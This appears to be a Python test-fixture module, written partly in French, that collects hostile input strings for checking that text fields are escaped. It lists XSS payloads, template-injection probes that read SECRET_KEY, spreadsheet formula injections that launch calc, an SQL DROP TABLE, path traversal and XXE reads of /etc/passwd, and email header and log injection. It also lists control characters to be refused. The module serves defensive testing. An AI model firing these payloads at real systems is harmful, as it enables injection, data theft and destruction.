"""What somebody could type to make a page, a table, a document or a log do something else."""

from __future__ import annotations

# What a browser sets when anything of a text was run.
CANARI = "__xss"
_AGIR = f"window.{CANARI}=1"

# Each may be typed in any text field: what is typed is what has to be read everywhere.
HOSTILES: dict[str, str] = {
    "gabarit js": f"`${{{_AGIR}}}` ${{alert(1)}} `+alert(1)+`",
    "fin de script": f"</script><script>{_AGIR}</script>",
    "image": f"<img src=x onerror={_AGIR}>",
    "svg": f"<svg onload={_AGIR}><animate onbegin={_AGIR} attributeName=x>",
    "attribut": f'" onmouseover="{_AGIR}" autofocus onfocus="{_AGIR}" x="',
    "attribut simple": f"' onclick='{_AGIR}' style='x:y' x='",
    "fin d’éléments": f"</title></textarea></style></noscript><iframe srcdoc='<script>{_AGIR}'>",
    "javascript:": f"javascript:{_AGIR}//https://exemple.fr",
    "data:": f"data:text/html,<script>{_AGIR}</script>",
    "gabarit jinja": "{{ 7*7 }} {{ config.SECRET_KEY }} {% raw %} {# x #} #{7*7} <%= 7*7 %>",
    "typst": '#eval("1+1") #read("/etc/passwd") $x^2$ \\u{41} *gras* _ital_ @ref <etiq> = Titre',
    "formule": "=cmd|' /C calc'!A0",
    "formule plus": '+HYPERLINK("https://ailleurs.exemple/?"&A1;"ici")',
    "formule moins": "-2+3+cmd|' /C calc'!A0",
    "formule arobase": "@SUM(1+1)*cmd|' /C calc'!A0",
    "guillemets csv": 'a;"b";""c"",d|e\'f | g',
    "en-tête": "%0d%0aBcc:tous@ailleurs.exemple%0d%0a \\r\\nSubject: faux",
    "xml": ']]> <![CDATA[ x ]]> <!ENTITY x SYSTEM "file:///etc/passwd"> &x; <?php ?>',
    "commentaires": "<!-- a --> <!--[if IE]> --!> /* b */ // c <!--",
    "entités": "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp; &apos &copy",
    "composés": "e\u0301te\u0301 \U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f Z\u0351\u036b\u0343 ﷽",
    "mot sans fin": "Anticonstitutionnellement" * 7,
    "sql": "'; DROP TABLE acteur; -- %' OR 1=1 /* \\' */ \" LIKE '_%",
    "chemins": "../../../../etc/passwd %2e%2e%2f \\\\serveur\\partage\\ file:///etc/passwd",
    "journal": "ok%0a2026-01-01 ERREUR \\n\\x1b[31m [CRITICAL] root logged in",
    "sosies": "Аccuеil \u200fעברית\u200e العربية \u200bz\u2060z\ufeff d\u00ad ⁄ ㎏ ﬁ",
    "vcard": "END:VCARD;TEL=1,2:3\\n\\;\\, \\N BEGIN:VCARD",
    "prototypes": "__proto__ constructor toString %s %n %(nom)s {0.__class__} $1 \\1",
}

# Never kept: whatever the field, the form and the imports say so in French.
REFUSES: dict[str, str] = {
    "nul": "a\x00b",
    "échappement": "a\x1b[31mb",
    "retour": "a\rb",
    "cloche": "a\x07b",
    "contrôle C1": "a\x85b",
    "fin de ligne unicode": "a\u2028b",
    "fin de paragraphe unicode": "a\u2029b",
    "sens renversé": "a\u202egnp.exe\u202c",
    "isolat": "a\u2066b\u2069",
}
# The same, but where several lines are welcome.
LIGNES = {"ligne": "a\nBcc: tous@ailleurs.exemple", "tabulation": "a\tb"}
